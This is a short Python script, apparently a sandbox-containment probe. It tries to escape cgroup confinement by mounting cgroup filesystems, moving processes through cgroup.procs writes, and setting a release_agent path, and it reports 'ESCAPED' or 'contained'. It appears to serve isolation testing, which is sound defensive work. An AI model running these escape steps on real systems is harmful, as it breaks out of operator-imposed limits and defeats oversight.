# attack: leave the control group, or have the kernel start a program for us when it empties
# limit: process
import ctypes, glob, os

libc = ctypes.CDLL(None, use_errno=True)
escaped = []
for kind in (b"cgroup", b"cgroup2"):
    os.makedirs(os.path.join(os.environ["TMPDIR"], "cg"), exist_ok=True)
    if libc.mount(b"none", os.path.join(os.environ["TMPDIR"], "cg").encode(), kind, 0, b"") == 0:
        escaped.append("mounted " + kind.decode())
for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:2000] + glob.glob("/sys/fs/cgroup/*/release_agent"):
    try:
        with open(path, "w") as file:
            file.write("0" if path.endswith("procs") else "/tmp/x")
        escaped.append(path)
    except OSError:
        pass
print("ESCAPED: " + ", ".join(escaped[:5]) if escaped else "contained")
